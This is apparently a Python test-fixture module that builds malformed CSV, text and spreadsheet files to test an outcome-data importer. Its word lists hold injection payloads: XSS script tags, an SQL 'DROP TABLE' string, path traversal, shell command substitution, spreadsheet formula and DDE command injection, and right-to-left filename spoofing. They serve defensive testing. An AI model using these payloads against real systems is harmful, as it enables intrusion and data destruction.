"""What the malformed files are made from: a case, a good table, and words nobody should type."""

from pathlib import Path
from typing import NamedTuple

from outcomes.columns import BY_KEY, COLUMNS
from tests.harvest import sheets

SEED = next(Path(__file__).resolve().parents[3].glob("fixtures/seeds/000_*.txt"))
HEADINGS = [column.heading for column in COLUMNS]
_GOOD = {
    "status": "Outcome lead",
    "harvest_period": "harvest 2",
    "country": "Sahel/Exampleland",
    "year": "2023",
    "description": "The council of Exampleville changed its rule.",
    "claimed_significance": "medium",
    "claimed_contribution": "moderate",
    "unintended": "NO",
    "stated_confidential": "",
    "negative": "NO",
}


class Case(NamedTuple):
    """One file: "family/variant", what it calls itself, and its bytes or what makes them."""

    name: str
    file_name: str
    make: object

    @property
    def data(self):
        return self.make() if callable(self.make) else self.make


def row(fragment_id="LOA/1", **values):
    """One good row of all columns, but for `values` by column key."""
    values = {"fragment_id": fragment_id, **_GOOD, **values}
    return [values.get(column.key, "Invented words.") for column in COLUMNS]


def grid(*rows):
    return [HEADINGS, *(rows or (row(), row("LOA/2")))]


def heading(key):
    return BY_KEY[key].heading


# --- one table in each of the forms ---------------------------------------------------------


def field_form(table):
    """A table (headings first) as the field text form, in bytes."""
    headings, *rows = table
    records = (
        "\n".join(f"**{name}**: {words}" for name, words in zip(headings, cells, strict=True))
        for cells in rows
    )
    return "\n---\n".join(records).encode("utf-8", "surrogatepass")


def delimited(table):
    """The table as CSV; half a character as the three bytes that UTF-8 forbids."""
    stand_in, half = "\uf8ff", "\ud800"
    table = [[words.replace(half, stand_in) for words in cells] for cells in table]
    data = sheets.csv_of(table, ",", "utf-8")
    return data.replace(stand_in.encode(), half.encode("utf-8", "surrogatepass"))


# {the ending of a file: table → bytes}
FORMS = {
    "txt": field_form,
    "csv": delimited,
    "xlsx": lambda table: sheets.xlsx(table),
    "ods": sheets.ods_of,
}
# What XML can carry; the field form and CSV carry the others.
TEXT_FORMS = ("txt", "csv")


# --- words ----------------------------------------------------------------------------------

# {name: words} that XML can carry
WORDS = {
    "script": "<script>alert(1)</script>",
    "image": '<img src=x onerror="alert(1)">',
    "attribute": "\" onmouseover='alert(1)' x=\"",
    "comment": "--><!-- ]]> <![CDATA[",
    "template": "{{ 7*7 }} {% debug %} ${7*7} #{7*7}",
    "format": "%s %n %d %(name)s {0} {name} {0.__class__}",
    "query": "'; DROP TABLE outcomes_outcome; --",
    "path": "../../../../etc/hostname",
    "shell": "$(id) `id` | id; id",
    "formula": "=1+1",
    "formula plus": "+1+1",
    "formula minus": "-1+1",
    "formula at": "@SUM(1)",
    "formula tab": "\t=1+1",
    "formula return": "\r=1+1",
    "formula apostrophes": "'''=1+1",
    "formula link": '=HYPERLINK("http://example.org/?x="&A1,"here")',
    "formula command": "=cmd|' /C calc'!A0",
    "right to left": "abc\u202egnp.exe",
    "bidi embeddings": "\u202a\u202b\u202c\u202d\u202eabc",
    "bidi isolates": "\u2066\u2067\u2068abc\u2069",
    "bidi marks": "\u200e\u200f\u061cabc",
    "invisible": "\u200b\u200c\u200d\u2060\u00adabc\ufeff",
    "only invisible": "\u200b\u2060\ufeff",
    "tags": "\U000e0041\U000e0042abc",
    "noncharacters": "a\ufffe\uffff\U0010ffffz",
    "private": "\ue000\U000f0000",
    "replacement": "\ufffd\ufffc",
    "accents": "a" + "\u0301" * 2000,
    "grows when folded": "\ufdfa" * 1000,
    "turkish": "İıŞşĞğ",
    "joined": "👩\u200d👩\u200d👧\u200d👦" * 20,
    "full width": "ＡＢＣ１２３＝１＋１",
    "arabic": "مرحبا ١٢٣",
    "line separators": "a\u2028b\u2029c\x85d",
    "line ends": "a\r\nb\rc\n\nd",
    "blanks": " \u00a0\u2003\u3000 ",
    "entities": "&lt;b&gt; &amp;amp; &#60; &#x3c; &copy=2 &nosuch; &#; &#x;",
    "entity zero": "&#0;&#x0;&#00000;",
    "entity half": "&#xD800;&#55296;&#xDFFF;",
    "entity beyond": "&#x110000;&#9999999;&#1114112;",
    "entity control": "&#1;&#8;&#27;&#127;&#x80;&#x9f;&#13;&#10;",
    "code": "&#0010;&#00;&#00202;",
    "rule": "---",
    "field": "**FragmentID**: LOA/9",
    "stars": "** **: * ***",
    "quotes": '"" \' ``` “”',
    "backslashes": "\\ \\0 \\x00 \\u0000 \\n",
    "json": '{"a": [1, null]}',
    "number": "1e309",
    "digits": "9" * 400,
    "long": "word " * 6000,
    "longest": "x" * 32_767,
    "too long": "x" * 32_768,
    "far too long": "x" * 140_000,
}
# {name: words} for text forms alone
RAW_WORDS = {
    "zero": "a\x00b",
    "only zero": "\x00",
    "controls": "".join(map(chr, range(1, 32))).replace("\n", "").replace("\r", ""),
    "escape": "\x1b[31mred\x1b[0m\x07",
    "c1": "".join(map(chr, range(0x80, 0xA0))),
    "delete": "\x7f\x7f",
    "separators": "a\x1cb\x1db\x1eb\x1fb",
    "half a character": "a\ud800b",
}
